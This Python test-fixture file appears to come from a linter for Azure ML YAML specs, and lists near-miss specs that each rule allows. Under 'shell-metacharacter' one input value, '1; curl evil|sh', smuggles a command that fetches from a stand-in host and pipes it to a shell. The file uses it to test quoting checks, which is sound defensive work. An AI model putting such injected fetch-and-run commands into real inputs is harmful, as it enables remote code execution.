"""The allowed twins: for each rule a spec that comes close to breaking it, and does not."""

from __future__ import annotations

from tests.specs.broken import (
    AUTOML,
    BATCH,
    COMMAND,
    COMPONENT,
    DEPLOYMENT,
    ELASTIC_JOB,
    ENDPOINT,
    LIMITS,
    PIPELINE,
    SPACE,
    SWEEP,
)

_STEP = PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
_RUN = "command: echo\n"
_NO_SCRIPT = DEPLOYMENT.partition("code_")[0]
_JOBS = "type: pipeline\njobs:\n  a: {command: echo, environment: 'azureml:e:1'"
_CRON = "name: s\ncreate_job: azureml:j\ntrigger: {type: cron, expression: '%s'}\n"

_PARALLEL = (
    "type: pipeline\ncompute: azureml:c\njobs:\n  batch:\n    type: parallel\n"
    "    inputs: {rows: {type: uri_folder, path: data}}\n    outputs: {scored: {type: uri_file}}\n"
    "    input_data: ${{inputs.rows}}\n    task:\n      type: run_function\n      code: src\n"
    "      entry_script: file.txt\n      environment: azureml:e:1\n"
)

ALLOWED: dict[str, list[str]] = {
    # More of both in test_code.
    "missing-package": [
        "command: python -m train\ncode: src\nenvironment: azureml:elsewhere:1\n",
        "command: python -m no.such.module\ncode: .\nenvironment: azureml:e:1\n",
    ],
    "unknown-argument": [
        "command: python -m no.such.module --rate 1\ncode: .\nenvironment: azureml:e:1\n",
    ],
    "cluster-nodes": [
        COMMAND + "compute: azureml:gpus\nresources: {instance_count: 2}\n",
        COMMAND + "compute: azureml:elsewhere\nresources: {instance_count: 99}\n",
    ],
    "misspelt-cluster": [
        COMMAND + "compute: azureml:gpus\nresources: {instance_count: 1}\n",
        COMMAND + "compute: azureml:on-premises\n",
    ],
    "unknown-asset": [
        "command: echo\nenvironment: azureml:numbers:2\n",
        "command: echo\nenvironment: azureml:elsewhere:7\ntags: {environment: azureml:numbers:9}\n",
        COMMAND + "inputs: {x: {path: azureml:prices@latest}}\n",
        COMMAND + "inputs: {x: {type: custom_model, path: azureml:prices:7}}\n",
    ],
    "endpoint-mismatch": [DEPLOYMENT, DEPLOYMENT.replace("managedO", "kubernetesO")],
    "instance-type": [
        *(
            DEPLOYMENT.replace("Standard_DS3_v2", size)
            for size in ("STANDARD_DS3_V2", "Standard_HB120-16rs_v3", "Standard_M128", "small")
        ),
        *(
            DEPLOYMENT.replace("Standard_DS3_v2", f"Standard_{size}")
            for size in ("F4s_v2", "NC4as_T4_v3", "ND96isr_MI300X_v5", "DC4as_cc_v5", "A1_v2")
        ),
        COMMAND + "resources: {instance_type: Standard_E4s_v3}\n",
    ],
    "cluster-trials": [
        SWEEP
        + SPACE
        + "compute: azureml:gpus\nlimits: {max_total_trials: 20, max_concurrent_trials: 2}\n"
    ],
    "cluster-gpus": [
        COMMAND + "compute: azureml:spots\nlimits: {timeout: 3600}\n"
        "distribution: {type: pytorch, process_count_per_instance: 1}\n"
    ],
    "cluster-build": [
        "command: echo\nenvironment: {image: i:1, conda_file: {dependencies: [pytorch-gpu=2.13]}}\n"
        "compute: azureml:gpus\n"
    ],
    "cluster-memory": [
        COMMAND + "compute: azureml:cpus\nresources: {shm_size: 8192m}\n",
        COMMAND + "compute: azureml:gpus\nresources: {shm_size: 500g}\n",
    ],
    "cluster-idle-gpus": [COMMAND + "compute: azureml:gpus\ndistribution: {type: ray}\n"],
    "cluster-infiniband": [COMMAND + "compute: azureml:gpus\ndistribution: {type: ray}\n"],
    "cluster-spot": [
        "command: python /o/train.py --resume\nenvironment: azureml:e:1\ncompute: azureml:spots\n",
        COMMAND + "compute: azureml:spots\nlimits: {timeout: 600}\n",
    ],
    "distributed-variables": [
        COMMAND + "distribution: {type: pytorch}\nenvironment_variables: {NCCL_DEBUG: INFO}\n",
        COMMAND + 'environment_variables: {RANK: "0"}\n',
    ],
    "shared-memory": [COMMAND + "resources: {shm_size: 16g}\n"],
    "elastic-nodes": [ELASTIC_JOB, ELASTIC_JOB.replace("1:2", "2:2")],
    "elastic-processes": [
        ELASTIC_JOB.replace("torchrun", "python -m torch.distributed.run"),
        "environment: azureml:e:1\ncommand: torchrun --nproc_per_node 2 /o/train.py\n",
    ],
    "elastic-rendezvous": [
        ELASTIC_JOB.replace("$MASTER_PORT", "29500"),
        "environment: azureml:e:1\ncommand: echo --nnodes 1:9\n",
    ],
    "automl-limits": [
        AUTOML
        + "target_column_name: price\n"
        + "limits: {max_trials: 3, max_concurrent_trials: 3, timeout_minutes: 60, "
        + "trial_timeout_minutes: 60}\n"
    ],
    "automl-share": [AUTOML + "target_column_name: price\nvalidation_data_size: 0.2\n"],
    "automl-algorithms": [
        AUTOML
        + "target_column_name: price\ntraining: {allowed_training_algorithms: [LightGBM, KNN], "
        + "blocked_training_algorithms: [KNN]}\n",
        AUTOML + "target_column_name: price\ntraining: {blocked_training_algorithms: [KNN]}\n",
    ],
    "automl-time-column": [
        AUTOML.replace("regression", "forecasting")
        + "target_column_name: price\nforecasting: {time_column_name: date}\n"
    ],
    "automl-frequency": [
        AUTOML.replace("regression", "forecasting")
        + "target_column_name: price\n"
        + f"forecasting: {{time_column_name: date, frequency: {frequency}}}\n"
        for frequency in ("D", "2W-THU", "M", "15min", "1D12h")
    ],
    "automl-target": [
        AUTOML.replace("path: data", "path: prices") + "target_column_name: price\n",
        AUTOML + "target_column_name: unread\n",
        AUTOML.replace("path: data", "path: 'azureml:t:1'") + "target_column_name: price\n",
    ],
    "parallel-input": [
        _PARALLEL,
        "type: pipeline\ncompute: azureml:c\njobs:\n  batch:\n    type: parallel\n"
        "    component: azureml://registries/r/components/c/versions/1\n",
    ],
    "parallel-output": [_PARALLEL + "      append_row_to: ${{outputs.scored}}\n"],
    "shell-metacharacter": [
        "environment: azureml:e:1\ncommand: python /o/train.py '${{inputs.x}}'\n"
        "inputs: {x: '1; curl evil|sh'}\n",
        "environment: azureml:e:1\ncommand: python /o/train.py ${{inputs.x}}\n"
        "inputs: {x: two words-1.5_a b=c/d}\n",
        "environment: azureml:e:1\ncommand: 'python /o/train.py \"${{inputs.x}}\"'\n"
        "inputs: {x: (.*) & jpg}\n",
        "environment: azureml:e:1\ncommand: cat ${{inputs.x}}\n"
        "inputs: {x: {type: uri_folder, path: data}}\n",
        "environment: azureml:e:1\ncommand: train\ninputs: {unused: 'a; b'}\n",
        PIPELINE + "  far:\n    component: azureml://registries/r/components/c/versions/1\n"
        "    inputs: {title: 'a & b (c)', columns: '[\"x\"]'}\n",
        'environment: azureml:e:1\ncommand: "echo \\"don\'t\\"; python /o/x.py \'${{inputs.x}}\'"\n'
        "inputs: {x: a|b}\n",
    ],
    "bad-name": [
        *(DEPLOYMENT.replace("blue", name) for name in ("abc", "A-b-1", "B" * 32, "a--b")),
        COMMAND + "name: train-1.2\nexperiment_name: My work (2)\n"
        "inputs: {a_b_1: 1}\noutputs: {y: {type: uri_folder, name: words-2, version: 1.0}}\n"
        "environment_variables: {OMP_NUM_THREADS: '1'}\n",
        COMPONENT + "inputs: {group.rate: {type: number}}\ncommand: echo ${{inputs.group.rate}}\n",
        "type: pipeline\ncompute: azureml:c\ninputs: {group.rate: 0.5}\njobs:\n  a:\n"
        "    type: command\n    component:\n      type: command\n      environment: azureml:e:1\n"
        "      command: echo ${{inputs.group.rate}}\n      inputs: {group.rate: {type: number}}\n"
        "    inputs: {group.rate: '${{parent.inputs.group.rate}}'}\n",
    ],
    "deployment-variable": [
        DEPLOYMENT + "environment_variables: {SCORE_RATE: '0.5', OMP_NUM_THREADS: '4'}\n",
        COMMAND + "environment_variables: {OPENSSL_CONF: x}\n",
    ],
    "duplicate-declaration": [
        COMPONENT.replace("name: c", "name: train").replace("'1'", "'2'") + _RUN
    ],
    "unpinned-environment": [
        DEPLOYMENT + "environment: azureml:e:1\n",
        DEPLOYMENT + "environment: {image: 'i:1', conda_file: conda.yml}\n",
        COMMAND.replace("azureml:e:1", "azureml:e@latest"),
    ],
    "plaintext-secret": [
        COMMAND + f"environment_variables: {{{name}: {value}}}\n"
        for name, value in {
            "AZURE_CLIENT_SECRET": "'${{inputs.secret_name}}'",
            "API_KEY": "''",
            "DB_PASSWORD": "<your password>",
            "TOKEN": "$HF_TOKEN",
            "SECRET_NAME": "train-secret",
            "KEY_VAULT_URL": "https://team.vault.azure.net/",
            "STORAGE_KEY": "xxxxXXXXxxxx",
            "PASSWORD": "'@Microsoft.KeyVault(SecretUri=https://v.vault.azure.net/secrets/s)'",
            "MAX_TOKENS": "'512'",
            "TOKENIZERS_PARALLELISM": "'false'",
        }.items()
        if "inputs" not in value
    ]
    + [
        COMMAND.replace("hello", "${{inputs.pad_token}}") + "inputs: {pad_token: PAD}\n",
        COMMAND + "inputs: {x: {path: 'https://a.blob.core.windows.net/c/f.csv?v=1'}}\n",
        "type: azure_blob\nname: d\naccount_name: a\ncontainer_name: c\n"
        "credentials: {sas_token: '?sv=XXXX&sig=XXXXXXXXXXXXXXXXXXXXXXXX'}\n",
    ],
    "variable-not-text": [
        COMMAND + "environment_variables: {A: '1', B: 'true', C: yes please, D: '', E: '1.0'}\n",
        COMMAND + "tags: {environment_variables: x}\ninputs: {environment_variables: 1}\n",
        PIPELINE + "  environment_variables: {command: echo, environment: 'azureml:e:1'}\n",
    ],
    "bad-traffic": [
        ENDPOINT + written + "\n"
        for written in (
            *(
                "traffic: {}",
                "traffic: {blue: 0}",
                "traffic: {blue: 100}",
                "traffic: {blue: '100'}",
            ),
            *(
                "traffic: {blue: 90, green: 10}",
                "traffic: {blue: 100}\nmirror_traffic: {green: 50}",
            ),
            "traffic: {blue: 100, green: 0}\nmirror_traffic: {green: 10}",
            "traffic: {blue: 100}\nmirror_traffic: {blue: 0}",
        )
    ],
    "model-version": [
        "type: custom_model\nname: m\npath: src\nversion: '12'\n",
        "type: custom_model\nname: m\npath: src\n",
        DEPLOYMENT.replace("m:1", "m@prod"),
        "type: uri_folder\nname: d\npath: src\nversion: v1\n",
        COMMAND + "inputs: {m: {type: custom_model, path: 'azureml:m@latest'}, version: v1}\n",
    ],
    "scoring-script": [
        DEPLOYMENT + "environment: azureml:e:1\n",
        BATCH.replace("batchDep", "modelBatchDep") + "type: model\ncompute: azureml:c\n"
        "environment: azureml:e:1\nmini_batch_size: 10\noutput_action: append_row\n"
        "max_concurrency_per_instance: 2\nretry_settings: {max_retries: 3, timeout: 30}\n"
        "error_threshold: -1\nlogging_level: info\noutput_file_name: rows.csv\n",
        _NO_SCRIPT,
        _NO_SCRIPT.replace("azureml:m:1", "{path: src, type: mlflow_model}")
        + "environment: {image: i:1, conda_file: conda.yml}\n",
        _NO_SCRIPT + "environment:\n  image: i:1\n  inference_config:\n"
        "    liveness_route: {port: 80, path: /}\n    readiness_route: {port: 80, path: /}\n"
        "    scoring_route: {port: 80, path: /score}\n",
        BATCH,
        BATCH.partition("code_")[0],
    ],
    "missing-script": [
        "environment: azureml:e:1\ncode: src\ncommand: cp a b.py && python b.py\n",
        "environment: azureml:e:1\ncode: src\ncommand: python -m train\n",
        "environment: azureml:e:1\ncode: src\ncommand: python ${{inputs.x}}.py\ninputs: {x: a}\n",
        *(
            f"environment: azureml:e:1\ncode: src\ncommand: {command}\n"
            for command in (
                *("git clone https://h.org/a && python a/b.py", "cd $HOME && python b.py"),
                *("bash -c 'python train.py'", "echo 1 > b.py; python ./b.py", "python -c 1"),
                *("torchrun --nproc_per_node=2 train.py --config x.py", "python -m pip install a"),
                *("A=1 python -W ignore -u ./train.py | tee log.txt", "python --version"),
                *("papermill train.py out.ipynb -k python", "pytest train.py --conf none.py"),
                *("test -f x.py && python x.py", "/opt/run.sh && bash $HOME/x.sh", "python -m a.b"),
            )
        ),
        "environment: azureml:e:1\ncommand: python /o/train.py\n",
    ],
    "schedule-input": [
        "name: s\ntrigger: {type: cron, expression: 0 * * * *}\ncreate_job:\n  type: pipeline\n"
        "  job: ./scheduled.part\n  inputs: {rate: 0.7, data: {type: uri_folder, path: src}}\n",
        _CRON.replace("azureml:j", "{job: azureml:j, type: pipeline, inputs: {any: 1}}")
        % "0 * * * *",
    ],
    "bad-time-zone": [
        (_CRON % "0 * * * *").replace("}", f", time_zone: {zone}}}")
        for zone in ("UTC", "W. Europe Standard Time")
    ],
    "scale-settings": [
        "name: c-one\ntype: amlcompute\nsize: Standard_DS3_v2\nmin_instances: 0\n"
        "max_instances: 2\n",
        DEPLOYMENT + "instance_count: 1\nscale_settings: {type: default}\n",
        DEPLOYMENT.replace("managedOnline", "kubernetesOnline").replace(
            "instance_type: Standard_DS3_v2", "type: kubernetes"
        )
        + "scale_settings: {type: target_utilization, min_instances: 1, max_instances: 2}\n",
    ],
    "model-folder": [
        "$schema: https://azuremlschemas.azureedge.net/latest/model.schema.json\n"
        f"name: m\nversion: 1\ntype: {kind}\npath: {path}\n"
        for kind, path in {
            "mlflow_model": "mlflow",
            "triton_model": "triton",
            "custom_model": "src",
        }.items()
    ],
    "deployment-build": [
        DEPLOYMENT.replace("DS3_v2", "NC6s_v3")
        + "environment: {image: i:1, conda_file: {dependencies: [pytorch-gpu=2.13]}}\n",
        DEPLOYMENT + "environment: {image: i:1, conda_file: {dependencies: [pytorch-cpu=2.13]}}\n",
    ],
    "no-compute": [
        COMMAND,
        _JOBS + ", compute: 'azureml:c'}\n",
        _JOBS + "}\nsettings: {default_compute: azureml:serverless}\n",
        _JOBS.replace("jobs", "name: p\nversion: 1\njobs") + "}\n",
        "type: pipeline\njobs: {a: {type: pipeline, component: around.part}}\n",
    ],
    "bad-environment": [
        _RUN + "environment: {image: i:1}\n",
        _RUN + "environment: {build: {path: context, dockerfile_path: whole}}\n",
        _RUN + "environment: {build: {path: 'https://github.com/team/x.git#main'}}\n",
        COMMAND + "inputs: {environment: {type: uri_folder, path: data}}\n",
        PIPELINE + "  environment: {command: echo, environment: {image: i:1}}\n",
    ],
    "unbound-expression": [
        "environment: azureml:e:1\ncommand: train ${{ inputs.x }} ${{outputs.y}}\n"
        "inputs: {x: 1}\noutputs: {y: }\n",
        COMMAND + "inputs: {x: 1}\nenvironment_variables: {X: '${{inputs.x}}'}\n",
        SWEEP.replace("${{search_space.rate}}", "${{search_space.deep}}")
        + LIMITS
        + "search_space: {kind: {type: choice, values: [{name: a, deep: 1}, {name: b}]}}\n",
    ],
    "unknown-expression": [
        "environment: azureml:e:1\ncommand: echo ${HOME} $(date) [[ x ]]\n",
        COMMAND + "outputs: {y: {path: 'azureml://datastores/d/paths/${{name}}/'}}\n",
    ],
    "misspelt-field": [
        "type: pipeline\ncompute: azureml:c\njobs:\n  train:\n    component: azureml:elsewhere:1\n"
        "    compute: azureml:c\n    $schema: x\n    unheard_of: 1\n",
    ],
    "optional-without-brackets": [
        COMPONENT
        + "inputs: {rate: {type: number, optional: true}}\n"
        + "command: train $[[--rate ${{inputs.rate}}]] $[[ --again ${{ inputs.rate }} ]]\n",
        COMPONENT + "inputs: {rate: {type: number}}\ncommand: train ${{inputs.rate}}\n",
    ],
    "empty-input": [
        _STEP + "      data: ${{parent.inputs.faq}}\n      rate: 0\n      note: x\n",
        COMMAND + "inputs: {a: 0, b: false, c: _}\n",
    ],
    "optional-binding": [
        COMPONENT.replace("command", "pipeline").replace("environment: azureml:e:1\n", "")
        + "inputs: {note: {type: string, optional: true}, data: {type: uri_folder}}\njobs:\n"
        "  train:\n    component: component.yml\n"
        "    inputs: {data: '${{parent.inputs.data}}', rate: 0, note: '${{parent.inputs.note}}'}\n",
    ],
    "number-out-of-range": [
        COMMAND + "resources: {instance_count: 1}\n",
        COMMAND + "inputs: {timeout: -1, instance_count: -1}\n",
        COMMAND + "services: {nb: {type: jupyter_lab, port: 8888}}\n",
        DEPLOYMENT + "instance_count: 1\nrequest_settings: {request_timeout_ms: 180000}\n"
        "liveness_probe: {success_threshold: 1, period: 1}\n"
        "data_collector: {collections: {a: {enabled: 'true'}}, sampling_rate: 0.5}\n",
        DEPLOYMENT.replace("managed", "kubernetes")
        + "request_settings: {request_timeout_ms: 300000}\n",
        AUTOML + "target_column_name: price\n"
        "limits: {timeout_minutes: '90', trial_timeout_minutes: 2.0, exit_score: 0.5}\n",
    ],
    "path-escape": [
        COMMAND + "code: ./src/../data\n",
        COMMAND + "inputs: {x: {path: 'azureml://datastores/d/paths/../x'}, y: {path: data}}\n",
        COMMAND + "environment_variables: {FOLDER: /etc}\n",
    ],
    "link-escape": [COMMAND + "code: src\n"],
    "missing-file": [
        COMMAND
        + "inputs: {x: {path: 'https://example.org/none'}, y: {path: azureml:none@latest}}\n",
        # The path is one of the connection's store.
        "name: rows\ntype: uri_folder\npath: azureml://datastores/d/paths/rows\n"
        "source: {type: file_system, path: there/rows.csv, connection: azureml:bucket}\n",
    ],
    "spark-settings": [
        # Sizes are read in any case; executors may be a range.
        "type: spark\ncode: src\nentry: {file: file.txt}\n"
        "resources: {instance_type: Standard_E4S_v3, runtime_version: '3.4'}\n"
        "conf: {spark.driver.cores: 1, spark.driver.memory: 2g, spark.executor.cores: 1, "
        "spark.executor.memory: 2g, spark.dynamicAllocation.enabled: true, "
        "spark.dynamicAllocation.minExecutors: 1, spark.dynamicAllocation.maxExecutors: 2}\n",
    ],
    "empty-pipeline": [PIPELINE],
    "bad-mltable": [
        COMMAND + "inputs: {x: {type: mltable, path: multi}, y: {type: uri_folder, path: lines}}\n",
        COMMAND + "inputs: {x: {type: mltable, path: data}}\n",
    ],
    "bad-conda-file": [
        "command: echo\nenvironment: {image: i:1, conda_file: conda.yml}\n",
        "command: echo\nenvironment:\n  image: i:1\n  conda_file: {dependencies: [numpy]}\n",
    ],
    "unknown-step": [PIPELINE],
    "unknown-output": [
        _STEP + "      data: ${{parent.jobs.prepare.outputs.prepared}}\n      rate: 1\n"
        "  use:\n    environment: azureml:e:1\n    command: cat ${{inputs.x}}\n"
        "    inputs: {x: '${{parent.jobs.train.outputs.model}}'}\n",
    ],
    "unknown-parent": [PIPELINE + "outputs: {model: }\n"],
    "pipeline-cycle": [
        _STEP + "      data: ${{parent.jobs.prepare.outputs.prepared}}\n      rate: 0\n"
    ],
    "wrong-type": [PIPELINE],
    "not-a-component": [_STEP + "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"],
    "component-cycle": [
        "type: pipeline\ncompute: azureml:c\n"
        "jobs:\n  one: {type: pipeline, component: around.part}\n"
        "  two: {type: pipeline, component: around.part}\n"
    ],
    "shared-output": [
        "type: pipeline\ncompute: azureml:c\n"
        "outputs: {one: {type: uri_folder}, two: {type: uri_folder}}\njobs:\n"
        "  a:\n    command: a ${{outputs.x}} ${{outputs.y}}\n    environment: azureml:e:1\n"
        "    outputs: {x: '${{parent.outputs.one}}', y: '${{parent.outputs.two}}'}\n"
    ],
    "missing-input": [_STEP + "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"],
    "unknown-input": [
        _STEP + "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n      note: hello\n"
    ],
    "input-range": [
        _STEP + "      data: ${{parent.inputs.faq}}\n      rate: '0.25'\n"
        "      rounds: 3\n      fast: True\n      kind: fancy\n",
    ],
    "port-range": [
        COMPONENT + "command: c ${{inputs.x}}\n"
        "inputs: {x: {type: integer, min: 1, max: 5, default: 5}}\n",
    ],
    "bad-cron": [
        _CRON % expression for expression in ("15 16 * * 1", "*/5 0-6 * ? mon-fri", "0 0 * * 7")
    ],
    "schedule-job": [
        _CRON.replace("azureml:j", "./inside.part") % "0 * * * *",
        _CRON % "0 * * * *",
    ],
    "bad-recurrence": [
        "name: c-one\ntype: computeinstance\nschedules:\n  compute_start_stop:\n"
        "    - action: start\n      trigger: {type: recurrence, frequency: week, interval: 1, "
        "schedule: {hours: [8], minutes: [0], week_days: [monday]}}\n",
        "name: s\ncreate_job: azureml:j\ntrigger: {type: recurrence, frequency: day, interval: 1, "
        "schedule: {hours: [0, 23], minutes: [0, 59]}}\n",
    ],
    "sweep-without-space": [SWEEP + SPACE + LIMITS],
    "grid-continuous": [
        SWEEP
        + LIMITS
        + "sampling_algorithm: grid\nsearch_space: {rate: {type: choice, values: [0.1, 0.2]}}\n",
        SWEEP + SPACE + LIMITS + "sampling_algorithm: random\n",
    ],
    "bayesian-distribution": [SWEEP + SPACE + LIMITS + "sampling_algorithm: bayesian\n"],
    "bayesian-early-termination": [
        SWEEP + SPACE + LIMITS + "early_termination: {type: bandit, slack_factor: 0.1}\n"
    ],
    "log-range": [
        SWEEP + LIMITS + f"search_space: {{rate: {{type: {distribution}, {bounds}}}}}\n"
        for distribution, bounds in (
            ("quniform", "min_value: 1, max_value: 9, q: 1"),
            ("loguniform", "min_value: -6.9, max_value: -2.3"),  # 0.001 … 0.1
            ("loguniform", "min_value: 2.08, max_value: 5.55"),  # 8 … 256
            ("qloguniform", "min_value: 0, max_value: 4, q: 1"),  # 1 … 55
        )
    ],
    "distribution-bounds": [
        SWEEP + LIMITS + "search_space: {rate: {type: normal, mu: -5, sigma: 0.1}}\n"
    ],
    "unused-search-space": [
        PIPELINE + "  tune:\n    type: sweep\n    trial: component.yml\n"
        "    inputs: {data: '${{parent.jobs.prepare.outputs.prepared}}'}\n"
        "    objective: {goal: maximize, primary_metric: gain}\n"
        "    search_space: {rate: {type: uniform, min_value: 0, max_value: 1}}\n"
        "    limits: {max_total_trials: 2}\n"
    ],
    "bandit-without-slack": [
        SWEEP + SPACE + LIMITS + "early_termination: {type: bandit, slack_amount: 0.2}\n"
    ],
    "truncation-percentage": [
        SWEEP
        + SPACE
        + LIMITS
        + "early_termination: {type: truncation_selection, truncation_percentage: 99}\n"
    ],
    "trial-limits": [
        SWEEP + SPACE + "limits: {max_total_trials: 1000, max_concurrent_trials: 100}\n",
        SWEEP + SPACE + "limits: {max_total_trials: 1, max_concurrent_trials: 1}\n",
    ],
    "short-timeout": [SWEEP + SPACE + "limits: {max_total_trials: 2, trial_timeout: 60}\n"],
}
